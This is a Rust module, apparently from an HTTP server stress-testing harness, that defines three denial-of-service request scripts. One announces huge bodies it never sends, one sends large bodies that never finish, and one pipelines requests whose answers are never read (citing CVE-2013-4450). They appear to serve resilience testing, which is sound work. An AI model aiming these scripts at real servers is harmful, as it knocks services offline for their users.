//! Content that is large, or said to be, and answers that nobody reads.

use super::{Attack, Move, Reads, send, send_all};

/// Below the 10 MiB that are collected for a handler.
const LARGE_BYTES: usize = 9 << 20;

/// What is sent in one move.
const PIECE_BYTES: usize = 64 << 10;

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "huge-announced-bodies",
        does: "a Content-Length of 10 MiB, and nothing behind it",
        origin: "servers that allocate what is announced",
        clients: 2_000,
        moves_per_s: 20_000,
        reads: Reads::All,
        descriptors: None,
        scripts: || {
            vec![vec![send(
                "POST /baseline11 HTTP/1.1\r\nHost: a\r\nContent-Length: 10485760\r\n\r\n",
            )]]
        },
    },
    Attack {
        name: "many-large-bodies",
        does: "content of 9 MiB on many connections, of which the last byte never comes",
        origin: "servers that collect content without a sum of it",
        clients: 256,
        moves_per_s: 1_500,
        reads: Reads::All,
        descriptors: None,
        scripts: || {
            let head = format!(
                "POST /baseline11 HTTP/1.1\r\nHost: a\r\nContent-Length: {}\r\n\r\n",
                LARGE_BYTES + 1
            );
            let pieces = (0..LARGE_BYTES / PIECE_BYTES).map(|_| send_all(vec![b'1'; PIECE_BYTES]));
            vec![std::iter::once(send_all(head)).chain(pieces).collect()]
        },
    },
    Attack {
        name: "pipelining-without-reading",
        does: "requests without end whose answers are never read",
        origin: "CVE-2013-4450 (Node.js)",
        clients: 128,
        moves_per_s: 2_000,
        reads: Reads::Nothing,
        descriptors: None,
        scripts: || {
            let small = "GET /pipeline HTTP/1.1\r\nHost: a\r\n\r\n".repeat(64);
            let large = "GET /json/50?m=1 HTTP/1.1\r\nHost: a\r\n\r\n".repeat(64);
            vec![
                vec![send_all(small), Move::Repeat(0)],
                vec![send_all(large), Move::Repeat(0)],
            ]
        },
    },
];
